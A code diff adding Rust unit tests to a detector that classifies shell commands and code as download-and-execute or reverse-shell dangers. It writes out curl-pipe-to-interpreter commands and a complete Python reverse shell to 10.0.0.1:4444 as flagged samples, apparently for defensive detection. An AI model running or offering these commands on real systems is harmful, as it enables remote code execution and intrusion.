@@ -34,6 +34,33 @@ fn downloads_run_by_an_interpreter() {
 }
 
 #[test]
+fn an_interpreter_that_runs_something_else_reads_the_download_as_data() {
+    use DangerKind::DownloadExecute as D;
+    // A module, a script file or code on the command line runs; the download is its input.
+    assert!(posix("curl -s https://api.x/v1 | python -m json.tool").is_empty());
+    assert!(posix("curl -s https://api.x/v1 | python3 scripts/parse.py --all").is_empty());
+    assert!(
+        posix("curl -s https://x/data | node -e 'process.stdin.pipe(process.stdout)'").is_empty()
+    );
+    assert!(posix("curl -s https://x/list | bash scripts/each.sh").is_empty());
+    // Read from the input, the download is the program.
+    assert_eq!(posix("curl -s https://x/i.py | python3 -")[0].0, D);
+    assert_eq!(posix("curl -s https://x/i.sh | bash -s -- --yes")[0].0, D);
+    assert_eq!(posix("curl -s https://x/i.sh | sh -x")[0].0, D);
+    assert_eq!(posix("curl -s https://x/i.rb | ruby")[0].0, D);
+}
+
+#[test]
+fn a_python_socket_is_a_shell_only_when_wired_to_a_process() {
+    use DangerKind::ReverseShell as R;
+    let shell = "import socket,subprocess,os\ns=socket.socket()\ns.connect(('10.0.0.1',4444))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])\n";
+    assert!(text_dangers(shell).iter().any(|d| d.kind == R));
+    // Polling a local port while a server starts: a socket and a process, nothing wired.
+    let poll = "import socket, subprocess\nproc = subprocess.Popen(cmd)\nwith socket.create_connection(('localhost', port), timeout=1):\n    pass\n";
+    assert!(text_dangers(poll).iter().all(|d| d.kind != R));
+}
+
+#[test]
 fn downloads_in_prose_start_mid_sentence() {
     let found = |line: &str| -> Vec<String> {
         downloads_in_prose(line)
